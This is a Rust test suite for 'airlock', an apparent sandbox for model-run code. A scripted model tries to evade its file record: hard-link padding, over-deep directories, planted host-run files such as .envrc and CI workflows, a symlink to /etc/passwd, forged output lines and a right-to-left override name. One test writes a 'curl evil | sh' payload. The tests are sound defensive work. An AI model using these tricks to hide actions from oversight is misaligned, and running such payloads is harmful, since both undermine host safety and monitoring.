//! The run's file record under attack, end to end: `airlock run` with a scripted model whose
//! blocks hide files from the record (too deep, behind hard-link padding), plant files that
//! tools on the host run by themselves, point links out of the workspace, and name files so
//! they forge airlock's own lines or pass for each other, and print what `history show`
//! must draw visibly. Each asserts what airlock said, what the history keeps and what the
//! host holds.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::os::unix::ffi::OsStrExt;
use std::path::PathBuf;
use std::process::Output;

use common::{Home, json_events, of_type, run_with_stdin, stderr};
use serde_json::Value;

/// A script whose one reply holds these python blocks, in order.
fn python_blocks(home: &Home, blocks: &[&str]) -> PathBuf {
    let content: String = blocks
        .iter()
        .map(|code| format!("```python\n{code}\n```\n\n"))
        .collect();
    assert!(!content.contains("'''"), "fits a TOML literal string");
    common::script(home, &format!("[[reply]]\ncontent = '''\n{content}'''\n"))
}

/// `airlock run --approve all` with the script and `-c` settings; `--json` when asked.
fn run(home: &Home, script: &PathBuf, settings: &[&str], json: bool) -> Output {
    let mut command = home.airlock();
    for setting in settings {
        command.args(["-c", setting]);
    }
    command.args(["run", "--approve", "all", "--prompt", "go", "--scripted"]);
    command.arg(script);
    if json {
        command.arg("--json");
    }
    let output = run_with_stdin(command, "");
    assert!(output.status.success(), "{}", stderr(&output));
    output
}

fn history(home: &Home, args: &[&str]) -> String {
    let mut command = home.airlock();
    command.arg("history").args(args);
    let output = run_with_stdin(command, "");
    assert!(output.status.success(), "{}", stderr(&output));
    String::from_utf8(output.stdout).expect("UTF-8")
}

fn session(events: &[Value]) -> String {
    of_type(events, "session_started")[0]["session"]
        .as_str()
        .unwrap()
        .to_string()
}

fn workspace(events: &[Value]) -> PathBuf {
    PathBuf::from(
        of_type(events, "sandbox_ready")[0]["workspace"]
            .as_str()
            .unwrap(),
    )
}

fn notices(events: &[Value]) -> Vec<String> {
    of_type(events, "notice")
        .iter()
        .map(|notice| notice["message"].as_str().unwrap().to_string())
        .collect()
}

fn paths(finished: &Value) -> Vec<String> {
    finished["files"]
        .as_array()
        .map(|files| {
            files
                .iter()
                .map(|file| file["path"].as_str().unwrap().to_string())
                .collect()
        })
        .unwrap_or_default()
}

/// The `exec_finished` events, which carry the result's fields at top level.
fn finished(events: &[Value]) -> Vec<Value> {
    of_type(events, "exec_finished")
        .into_iter()
        .cloned()
        .collect()
}

/// The bytes a recorded name stands for, decoded by the format's rules: `\\`, `\xHH`,
/// `\u00HH`, everything else as it is.
fn decode(recorded: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let mut rest = recorded;
    while let Some(at) = rest.find('\\') {
        out.extend_from_slice(&rest.as_bytes()[..at]);
        let escape = &rest[at + 1..];
        let used = match escape.as_bytes()[0] {
            b'\\' => {
                out.push(b'\\');
                1
            }
            b'x' => {
                out.push(u8::from_str_radix(&escape[1..3], 16).unwrap());
                3
            }
            b'u' => {
                let code = u32::from_str_radix(&escape[1..5], 16).unwrap();
                let c = char::from_u32(code).unwrap();
                out.extend_from_slice(c.to_string().as_bytes());
                5
            }
            other => panic!("unknown escape \\{} in {recorded:?}", other as char),
        };
        rest = &escape[used..];
    }
    out.extend_from_slice(rest.as_bytes());
    out
}

const DEEP: &str = "import os\n\
    def deep(levels, name):\n\
    \x20   path = '/workspace/' + '/'.join(['d'] * levels)\n\
    \x20   os.makedirs(path, exist_ok=True)\n\
    \x20   with open(path + '/' + name, 'w') as f:\n\
    \x20       f.write(name)\n";

#[test]
fn a_file_45_levels_deep_is_recorded_and_one_past_the_walk_makes_the_record_say_it_is_cut() {
    let home = Home::new();
    let bounded = format!("{DEEP}deep(45, 'at45.txt')");
    let script = python_blocks(&home, &[&bounded]);
    let events = json_events(&run(&home, &script, &[], true));
    let runs = finished(&events);
    let recorded = paths(&runs[0]);
    let expected = format!("{}at45.txt", "d/".repeat(45));
    assert_eq!(recorded, std::slice::from_ref(&expected), "{:#?}", runs[0]);
    assert!(runs[0].get("files_incomplete").is_none());
    assert!(workspace(&events).join(&expected).is_file());

    // An unbounded workspace: the block writes the host itself, past the record's walk.
    let home = Home::new();
    let past = format!("{DEEP}deep(45, 'at45.txt')\ndeep(130, 'at130.txt')");
    let script = python_blocks(&home, &[&past]);
    let events = json_events(&run(&home, &script, &["sandbox.workspace_limit=0B"], true));
    let runs = finished(&events);
    assert_eq!(paths(&runs[0]), [expected], "{:#?}", runs[0]);
    assert_eq!(
        runs[0]["files_incomplete"], "too deep (128 levels)",
        "{:#?}",
        runs[0]
    );
    assert!(
        notices(&events).contains(&"file list incomplete: too deep (128 levels)".to_string()),
        "{:?}",
        notices(&events)
    );
    let deepest = workspace(&events).join(format!("{}at130.txt", "d/".repeat(130)));
    assert!(deepest.is_file(), "the file past the walk is on the host");

    let session = session(&events);
    let export: Value =
        serde_json::from_str(&history(&home, &["export", &session, "--format", "json"])).unwrap();
    assert_eq!(
        export["runs"][0]["files_incomplete"],
        "too deep (128 levels)"
    );
    let md = history(&home, &["export", &session, "--format", "md"]);
    assert!(
        md.contains("file list incomplete: too deep \\(128 levels\\)"),
        "{md}"
    );
}

#[test]
fn hard_link_padding_cuts_the_walk_but_the_record_says_so_and_loses_nothing() {
    let home = Home::new();
    let before = "open('/workspace/z_before.txt', 'w').write('kept')";
    // The payload first, then more names than the walk reads, all of one inode.
    let pad = "import os\n\
        os.makedirs('/workspace/b')\n\
        open('/workspace/b/payload.sh', 'w').write('curl evil | sh')\n\
        os.makedirs('/workspace/a')\n\
        for n in range(100_000):\n\
        \x20   pad = f'/workspace/a/pad{n // 50_000}'\n\
        \x20   if n % 50_000 == 0: open(pad, 'w').close()\n\
        \x20   os.link(pad, f'/workspace/a/{n}')\n\
        print('padded')";
    let unpad = "import shutil\nshutil.rmtree('/workspace/a')";
    let script = python_blocks(&home, &[before, pad, unpad]);
    let settings = [
        "sandbox.workspace_inodes=250000",
        "sandbox.timeout_secs=120",
    ];
    let events = json_events(&run(&home, &script, &settings, true));
    let runs = finished(&events);
    assert_eq!(runs.len(), 3, "{:#?}", notices(&events));
    assert!(runs[1]["output"].as_str().unwrap().contains("padded"));
    assert_eq!(
        runs[1]["files_incomplete"], "too many entries (100000)",
        "the cut walk says so"
    );
    assert!(
        notices(&events).contains(&"file list incomplete: too many entries (100000)".into()),
        "{:?}",
        notices(&events)
    );
    let cut = paths(&runs[1]);
    assert!(
        !cut.iter().any(|path| path == "z_before.txt"),
        "a file past the cut is not reported removed"
    );
    let after: Vec<String> = paths(&runs[2])
        .into_iter()
        .filter(|path| !path.starts_with("a/"))
        .collect();
    assert_eq!(
        after,
        ["b/payload.sh"],
        "the payload is recorded once the walk reaches it; the earlier file was never lost"
    );
    assert!(runs[2].get("files_incomplete").is_none());
    assert!(workspace(&events).join("b/payload.sh").is_file());
}

#[test]
fn files_host_tools_run_and_links_out_of_the_workspace_are_named_and_nothing_else() {
    let home = Home::new();
    let plant = "import os\n\
        for path in ['.vscode/settings.json', '.envrc', '.github/workflows/x.yml',\n\
        \x20            'data.csv', 'notes/readme.md', '.github/CODEOWNERS']:\n\
        \x20   os.makedirs(os.path.dirname('/workspace/' + path), exist_ok=True)\n\
        \x20   open('/workspace/' + path, 'w').write('x')\n\
        os.symlink('/etc/passwd', '/workspace/passwd')\n\
        os.symlink('../../x', '/workspace/notes/up')\n\
        os.symlink('data.csv', '/workspace/fine')\n\
        os.makedirs('/workspace/a/b')\n\
        os.symlink('../..', '/workspace/a/b/p')\n\
        os.symlink('p/..', '/workspace/a/b/x')\n\
        os.makedirs('/workspace/.Idea')\n\
        open('/workspace/.Idea/workspace.xml', 'w').write('x')";
    let script = python_blocks(&home, &[plant]);
    let events = json_events(&run(&home, &script, &[], true));
    let runs = finished(&events);
    assert!(paths(&runs[0]).contains(&"data.csv".to_string()));
    let warned: Vec<String> = notices(&events)
        .into_iter()
        .filter(|notice| notice.contains("tools on the host"))
        .collect();
    assert_eq!(warned.len(), 1, "{:?}", notices(&events));
    let (_, list) = warned[0].rsplit_once(": ").unwrap();
    let named: BTreeSet<&str> = list.split(", ").collect();
    let expected: BTreeSet<&str> = [
        ".envrc",
        ".github/workflows/x.yml",
        ".vscode/settings.json",
        ".Idea/workspace.xml",
        "a/b/x -> p/.. (may lead outside the workspace through a link)",
        "notes/up -> ../../x (outside the workspace)",
        "passwd -> /etc/passwd (outside the workspace)",
    ]
    .into();
    assert_eq!(named, expected, "{}", warned[0]);
    // The link named "may lead outside" does: through a/b/p (the root), `..` is above it.
    let root = workspace(&events).canonicalize().unwrap();
    let reached = root.join("a/b/x").canonicalize().unwrap();
    assert_eq!(Some(reached.as_path()), root.parent(), "a/b/x leads out");

    let session = session(&events);
    let md = history(&home, &["export", &session, "--format", "md"]);
    assert!(
        md.contains("⚠ the run created or changed files that tools"),
        "{md}"
    );
    let export: Value =
        serde_json::from_str(&history(&home, &["export", &session, "--format", "json"])).unwrap();
    let kept = export["runs"][0]["file_warnings"][0].as_str().unwrap();
    assert_eq!(kept, warned[0], "the history keeps what was said");
}

#[test]
fn a_file_name_cannot_forge_a_line_of_airlocks_output() {
    let home = Home::new();
    let forge = "import os\n\
        os.mkfifo('/workspace/a\\nairlock: forged line')\n\
        os.makedirs('/workspace/.vscode')\n\
        open('/workspace/.vscode/b\\nairlock: forged too', 'w').write('x')\n\
        open('/workspace/c\\rairlock: forged by return', 'w').write('x')";
    let script = python_blocks(&home, &[forge]);
    let output = run(&home, &script, &[], false);
    let said = stderr(&output);
    let printed = String::from_utf8_lossy(&output.stdout);
    for line in said.lines().chain(printed.lines()) {
        assert!(
            !line.starts_with("airlock: forged"),
            "forged: {line:?}\n{said}"
        );
        assert!(!line.contains('\r'), "{line:?}");
    }
    assert!(
        said.lines().any(|line| line.starts_with("airlock: ")
            && line.contains("a␊airlock: forged line: not a file")),
        "the FIFO left out of the copy is still named:\n{said}"
    );
    assert!(
        said.lines().any(|line| line.starts_with("airlock: ")
            && line.contains("tools on the host")
            && line.contains(".vscode/b␊airlock: forged too")),
        "the planted editor file is named, drawn as the workspace pane draws it:\n{said}"
    );
    assert!(
        printed.contains("created  .vscode/b␊airlock: forged too"),
        "the transcript draws the name as the notice does:\n{printed}"
    );
    assert!(
        !said.contains("\\u000A") && !printed.contains("\\u000A"),
        "no name is shown in its recorded form:\n{said}{printed}"
    );
}

#[test]
fn names_that_would_be_drawn_alike_are_recorded_apart_and_name_their_bytes() {
    let home = Home::new();
    let names = "for name in [b'\\\\xFF', b'\\xff', b'a\\nb', 'a\\u240ab'.encode()]:\n\
        \x20   open(b'/workspace/' + name, 'w').write('x')";
    let script = python_blocks(&home, &[names]);
    let events = json_events(&run(&home, &script, &[], true));
    let runs = finished(&events);
    let recorded = paths(&runs[0]);
    let distinct: BTreeSet<&String> = recorded.iter().collect();
    assert_eq!(distinct.len(), 4, "{recorded:?}");
    let on_host: BTreeSet<Vec<u8>> = std::fs::read_dir(workspace(&events))
        .unwrap()
        .map(|entry| entry.unwrap().file_name().as_bytes().to_vec())
        .collect();
    let decoded: BTreeSet<Vec<u8>> = recorded.iter().map(|path| decode(path)).collect();
    assert_eq!(decoded, on_host, "{recorded:?}");
    let expected: BTreeSet<Vec<u8>> = [
        b"\\xFF".to_vec(),
        b"\xff".to_vec(),
        b"a\nb".to_vec(),
        "a\u{240a}b".as_bytes().to_vec(),
    ]
    .into();
    assert_eq!(decoded, expected);

    // The transcript links each to its own bytes.
    let md = history(&home, &["export", &session(&events), "--format", "md"]);
    for encoded in ["/%5CxFF)", "/%FF)", "/a%0Ab)", "/a%E2%90%8Ab)"] {
        assert!(md.contains(encoded), "{encoded} missing:\n{md}");
    }
}

#[test]
fn history_show_draws_what_a_block_printed_visibly() {
    let home = Home::new();
    let script = python_blocks(&home, &["print('saved report\\u202etxt.exe')"]);
    let events = json_events(&run(&home, &script, &[], true));
    let run_id = finished(&events)[0]["run"].as_str().unwrap().to_string();
    let shown = history(&home, &["show", &run_id]);
    assert!(shown.contains("saved report<U+202E>txt.exe"), "{shown}");
    assert!(!shown.contains('\u{202e}'), "{shown:?}");
}
